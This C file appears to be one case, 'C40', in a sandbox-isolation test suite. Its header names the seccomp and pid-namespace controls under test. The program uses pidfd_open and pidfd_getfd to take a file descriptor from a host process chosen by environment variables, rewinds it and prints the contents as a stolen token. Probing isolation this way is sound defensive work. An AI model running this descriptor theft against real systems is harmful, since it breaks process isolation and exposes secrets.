/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack: C40
 * title: take a descriptor out of a process of the host
 * backends: docker, process
 * expect: completed exit
 * layers: seccomp, pid namespace
 * evidence: token
 * control docker: seccomp processes
 * control process: none
 */
#include "attack.h"

int main(void)
{
    int process = (int)syscall(SYS_pidfd_open, atoi(getenv("SENTINEL")), 0);
    int fd = (int)syscall(SYS_pidfd_getfd, process, atoi(getenv("DESCRIPTOR")), 0);
    (void)lseek(fd, 0, SEEK_SET);
    return show(fd);
}
